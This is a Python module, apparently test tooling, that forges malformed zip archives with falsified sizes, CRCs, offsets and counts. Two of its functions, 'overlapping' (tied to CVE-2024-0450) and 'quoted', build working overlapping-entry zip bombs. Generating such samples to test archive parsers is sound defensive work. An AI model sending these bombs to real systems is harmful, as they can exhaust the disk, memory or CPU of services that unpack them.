"""A zip writer that can lie: every field of every record may be another than it should be. For hostile samples only."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, replace

LINK, PIPE = 0o120777, 0o010644
"""Modes of Unix."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """A member. What is None is as it should be; `at` is where the directory says that its local header is."""

    name: bytes
    data: bytes = b""
    method: int = 8
    flags: int = 0
    mode: int = 0o100644
    packed_data: bytes | None = None
    size: int | None = None
    packed: int | None = None
    crc: int | None = None
    at: int | None = None
    extra: bytes = b""
    local_name: bytes | None = None
    local_size: int | None = None
    before: bytes = b""


def deflated(data: bytes, level: int = 9) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def local(entry: Entry) -> tuple[bytes, Entry]:
    """The local header with the data, and the entry with all its fields."""
    data = entry.packed_data
    if data is None:
        data = deflated(entry.data) if entry.method == 8 else entry.data
    full = replace(
        entry,
        packed_data=data,
        size=len(entry.data) if entry.size is None else entry.size,
        packed=len(data) if entry.packed is None else entry.packed,
        crc=zlib.crc32(entry.data) if entry.crc is None else entry.crc,
    )
    name = entry.name if entry.local_name is None else entry.local_name
    size = full.size if entry.local_size is None else entry.local_size
    fields = (20, entry.flags, entry.method, 0, 0x21, full.crc, full.packed, size, len(name), 0)
    return struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + name + data, full


def central(entry: Entry, at: int) -> bytes:
    fields = (0x0314, 20, entry.flags, entry.method, 0, 0x21, entry.crc, entry.packed, entry.size)
    lengths = (len(entry.name), len(entry.extra), 0, 0, 0, entry.mode << 16, at if entry.at is None else entry.at)
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields, *lengths) + entry.name + entry.extra


def end(count: int, size: int, first: int, comment: bytes = b"") -> bytes:
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, size, first, len(comment)) + comment


def end_64(count: int, size: int, first: int, at: int) -> bytes:
    """Zip64 record and locator, which begin at this offset."""
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, first)
    return record + struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)


def archive(
    *entries: Entry, comment: bytes = b"", count: int | None = None, between: bytes = b"", wide: int | None = None
) -> bytes:
    """A zip of these. `count` is what the end record says, `wide` what a zip64 record says besides."""
    body, directory = b"", b""
    for entry in entries:
        body += entry.before
        data, full = local(entry)
        directory += central(full, len(body))
        body += data
    first, said = len(body), len(entries) if count is None else count
    body += directory + between
    if wide is not None:
        body += end_64(wide, len(directory), first, len(body))
    return body + end(said, len(directory), first, comment)


def overlapping(copies: int, kernel: bytes) -> bytes:
    """Many entries that share one member's bytes: the full overlap that CVE-2024-0450 is about."""
    data, full = local(Entry(name=b"a", data=kernel))
    names: Sequence[bytes] = [b"a", *(b"%d" % each for each in range(1, copies))]
    directory = b"".join(central(replace(full, name=name), 0) for name in names)
    return data + directory + end(copies, len(directory), len(data))


def quoted(copies: int, kernel: bytes) -> bytes:
    """Members that hold the local headers of the next ones, quoted as stored blocks: a better zip bomb of one file."""
    data, full = local(Entry(name=b"z", data=kernel))
    body, members = data, [(full, 0)]
    for number in range(1, copies):
        head = members[0][0]
        quote = struct.pack("<BHH", 0, len(body), len(body) ^ 0xFFFF) if len(body) < 0xFFFF else b""
        entry = Entry(name=b"%04d" % number, packed_data=quote + body, size=(head.size or 0) + len(body), crc=0)
        added, whole = local(entry)
        shift = len(added) - len(body)
        members = [(whole, 0), *((each, at + shift) for each, at in members)]
        body = added
    directory = b"".join(central(replace(each, at=at), at) for each, at in members)
    return body + directory + end(copies, len(directory), len(body))
